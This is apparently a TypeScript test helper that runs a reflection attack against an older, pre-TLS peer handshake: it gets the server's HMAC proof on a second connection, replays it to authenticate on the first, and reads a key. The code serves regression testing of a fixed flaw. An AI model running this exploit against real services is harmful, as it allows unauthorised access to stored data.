/**
 * The reflection attack on the peer handshake that came before TLS, written
 * out as a stranger without the cluster key would run it. That handshake was
 * HELLO(nonce_c) → HELLO_REPLY(nonce_s, HMAC(key, nonce_c)) → AUTH(HMAC(key, nonce_s)),
 * and the server computed the proof for any nonce it was sent:
 *   1. connection 1 sends HELLO and receives nonce_s1;
 *   2. connection 2 sends HELLO with nonce = nonce_s1 and receives HMAC(key, nonce_s1);
 *   3. connection 1 sends that as AUTH, then a GET.
 * The frames are built by hand, byte for byte as that build sent them, so the attack
 * does not depend on the codec of the build under test.
 *
 *   node --import tsx test/helpers/reflection-attack.ts <host:port> <keyspace> <key>
 */
import { randomBytes } from 'node:crypto';
import net from 'node:net';

const HELLO = 1;
const HELLO_REPLY = 2;
const AUTH = 3;
const GET = 10;
const VALUE = 20;
const STEP_TIMEOUT_MS = 3_000;

export type AttackOutcome =
  | { readonly admitted: true; readonly value: Buffer }
  | { readonly admitted: false; readonly failedAt: string; readonly why: string };

function frame(type: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUInt32BE(5 + payload.byteLength, 0);
  header.writeUInt8(type, 4);
  header.writeUInt32BE(0, 5);
  return Buffer.concat([header, payload]);
}

const hello = (nonce: Buffer) => frame(HELLO, Buffer.concat([Buffer.from([0, 1]), nonce]));
const string = (text: string) => {
  const bytes = Buffer.from(text, 'utf8');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(bytes.byteLength);
  return Buffer.concat([length, bytes]);
};

/** A connection that hands out whole frames: { type, payload }. */
class FrameSocket {
  readonly #socket: net.Socket;
  #buffer = Buffer.alloc(0);
  #closed: string | undefined;
  #waiter: (() => void) | undefined;

  constructor(address: { host: string; port: number }) {
    this.#socket = net.connect(address);
    this.#socket.on('data', (chunk: Buffer) => {
      this.#buffer = Buffer.concat([this.#buffer, chunk]);
      this.#waiter?.();
    });
    this.#socket.on('error', (error) => (this.#closed = error.message));
    this.#socket.on('close', () => {
      this.#closed ??= 'connection closed';
      this.#waiter?.();
    });
  }

  write(bytes: Buffer): void {
    this.#socket.write(bytes);
  }

  /** The next frame; rejects when the connection closes or nothing arrives in time. */
  async next(): Promise<{ type: number; payload: Buffer }> {
    const deadline = Date.now() + STEP_TIMEOUT_MS;
    for (;;) {
      if (this.#buffer.byteLength >= 4) {
        const length = this.#buffer.readUInt32BE(0);
        if (length > 1 << 20) throw new Error(`not a peer frame (length ${length})`);
        if (this.#buffer.byteLength >= 4 + length) {
          const type = this.#buffer.readUInt8(4);
          const payload = this.#buffer.subarray(9, 4 + length);
          this.#buffer = this.#buffer.subarray(4 + length);
          return { type, payload };
        }
      }
      if (this.#closed !== undefined) throw new Error(this.#closed);
      const left = deadline - Date.now();
      if (left <= 0) throw new Error(`no frame within ${STEP_TIMEOUT_MS} ms`);
      await new Promise<void>((resolve) => {
        const timer = setTimeout(resolve, left);
        this.#waiter = () => (clearTimeout(timer), resolve());
      });
      this.#waiter = undefined;
    }
  }

  close(): void {
    this.#socket.destroy();
  }
}

/** Runs steps 1-3 against a peer port, then asks for `keyspace`/`key`. */
export async function reflectionAttack(
  address: { host: string; port: number },
  keyspace: string,
  key: string,
): Promise<AttackOutcome> {
  const first = new FrameSocket(address);
  const second = new FrameSocket(address);
  let step = '1: HELLO on connection 1';
  try {
    first.write(hello(randomBytes(32)));
    const reply1 = await first.next();
    if (reply1.type !== HELLO_REPLY) throw new Error(`answered with message type ${reply1.type}`);
    const serverNonce = reply1.payload.subarray(2, 34);

    step = "2: HELLO on connection 2 with connection 1's server nonce";
    second.write(hello(serverNonce));
    const reply2 = await second.next();
    if (reply2.type !== HELLO_REPLY) throw new Error(`answered with message type ${reply2.type}`);
    const proof = reply2.payload.subarray(34, 66);

    step = '3: AUTH on connection 1 with the reflected proof, then GET';
    first.write(frame(AUTH, proof));
    first.write(frame(GET, Buffer.concat([string(keyspace), string(key)])));
    const answer = await first.next();
    if (answer.type !== VALUE) throw new Error(`answered with message type ${answer.type}`);
    return { admitted: true, value: answer.payload.subarray(9) };
  } catch (error) {
    return { admitted: false, failedAt: step, why: (error as Error).message };
  } finally {
    first.close();
    second.close();
  }
}

if (process.argv[1] === new URL(import.meta.url).pathname) {
  const [address, keyspace = 'ks', key = 'k'] = process.argv.slice(2);
  const [host, port] = (address ?? '').split(':');
  const outcome = await reflectionAttack({ host: host!, port: Number(port) }, keyspace, key);
  console.log(JSON.stringify(outcome.admitted ? { admitted: true, value: outcome.value.toString() } : outcome));
}
